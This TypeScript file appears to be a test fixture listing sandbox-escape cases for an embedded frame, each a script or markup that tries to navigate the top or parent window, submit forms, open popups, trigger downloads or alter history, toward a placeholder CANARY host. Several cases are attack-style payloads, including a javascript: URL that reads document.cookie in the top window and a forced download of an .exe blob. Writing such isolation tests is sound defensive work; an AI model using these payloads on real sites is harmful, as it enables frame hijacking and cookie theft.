import type { EscapeCase } from './case.ts';

/** Leaving: navigation of this window and others, forms, popups, downloads, history. */
export const wayOutCases: readonly EscapeCase[] = [
  { name: 'own address', script: 'location.href = "CANARY/location?d=x"', mayFail: true },
  { name: 'own address by replace', script: 'location.replace("CANARY/replace")', mayFail: true },
  {
    name: 'own address by the document',
    script: 'document.location = "CANARY/document"; navigation?.navigate("CANARY/navigation")',
    mayFail: true,
  },
  {
    name: 'own address by a refresh',
    head: '<meta http-equiv="refresh" content="0;url=CANARY/refresh">',
    script:
      'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=CANARY/refresh2"; document.head.append(m)',
    mayFail: true,
  },
  {
    name: 'own address by a script address',
    script: 'location.href = "javascript:fetch(\'CANARY/js\')"',
    mayFail: true,
  },
  { name: 'own address to a page of the app', script: 'location.href = "APP/api/secret"', mayFail: true },
  {
    name: 'address of the top window',
    script:
      'try { top.location = "CANARY/top" } catch (e) { take(e.name) } parent.location.replace("CANARY/parent")',
  },
  {
    name: 'address of an inner frame',
    body: '<iframe name="inner"></iframe><iframe id="two" srcdoc="x"></iframe><a id="a" href="CANARY/inner-link" target="inner">x</a>',
    script:
      'await new Promise((y) => setTimeout(y, 100)); for (const change of [() => { frames[0].location = "CANARY/inner" }, () => { frames.inner.location.href = "CANARY/inner2" }, () => document.getElementById("two").contentWindow.location.replace("CANARY/inner3"), () => window.open("CANARY/inner4", "inner"), () => document.getElementById("a").click()]) { try { change() } catch (e) { take(e.name) } }',
  },
  { name: 'script in the top window', script: 'top.location = "javascript:alert(document.cookie)"' },
  {
    name: 'links',
    body: '<a id="a" href="CANARY/link" target="_top">x</a><a id="b" href="CANARY/blank" target="_blank">x</a>',
    click: '#a',
    script: 'document.getElementById("b").click()',
  },
  {
    name: 'links made by code',
    script:
      'const a = document.createElement("a"); a.href = "CANARY/made"; a.target = "_parent"; a.click(); a.dispatchEvent(new MouseEvent("click"))',
  },
  {
    name: 'links in shadow roots',
    script:
      'const h = document.body.appendChild(document.createElement("div")); const r = h.attachShadow({ mode: "closed" }); r.innerHTML = "<a href=\\"CANARY/shadow\\">x</a>"; r.firstChild.click()',
    mayFail: true,
  },
  {
    name: 'links of vector graphics',
    body: '<svg><a id="a" href="CANARY/svg"><text y="20">x</text></a></svg>',
    click: '#a text',
    mayFail: true,
  },
  {
    name: 'maps of pictures',
    body: '<map name="m"><area id="a" shape="default" href="CANARY/area" target="_top"></map><img usemap="#m" src="data:," width="9" height="9">',
    script: 'document.getElementById("a").click()',
  },
  {
    name: 'forms',
    body: '<form id="f" action="CANARY/form" method="post" target="_top"><input name="d" value="x"><button id="b" formaction="CANARY/button">send</button></form>',
    click: '#b',
    script: 'document.getElementById("f").submit(); document.getElementById("f").requestSubmit()',
  },
  {
    name: 'forms by the native method',
    body: '<form id="f" action="CANARY/native"></form>',
    script:
      'const f = document.getElementById("f"); const d = document.createElement("form"); d.submit.call(f); f.dispatchEvent(new Event("submit")); f.method = "dialog"',
  },
  {
    name: 'windows',
    script:
      'take(String(window.open("CANARY/open"))); take(String(Window.prototype.open?.call(window, "CANARY/open2"))); take(String(document.open("CANARY/open3", "x", "y")))',
  },
  {
    name: 'windows by a click',
    body: '<button id="b">x</button>',
    script:
      'document.getElementById("b").onclick = () => { window.open("CANARY/click"); const a = document.createElement("a"); a.href = "CANARY/click2"; a.target = "_blank"; a.rel = "opener"; a.click() }',
    click: '#b',
  },
  {
    name: 'downloads',
    script:
      'const a = document.createElement("a"); a.href = "CANARY/download"; a.download = "x"; a.click(); const b = document.createElement("a"); b.href = URL.createObjectURL(new Blob(["x"])); b.download = "x.exe"; b.click()',
  },
  {
    name: 'history of the studio',
    script: 'history.back(); history.go(-1); history.go(-2); parent.history?.back(); navigation?.back?.()',
    mayFail: true,
  },
  { name: 'history of addresses', script: 'history.pushState(null, "", "CANARY/push")' },
  { name: 'name of the window', script: 'window.name = "host-secret-in-name"; take(parent.name)' },
  {
    name: 'other programs',
    script:
      'location.href = "mailto:a@canary.test?body=x"; const f = document.createElement("iframe"); f.src = "tel:1"; document.body.append(f)',
    mayFail: true,
  },
];
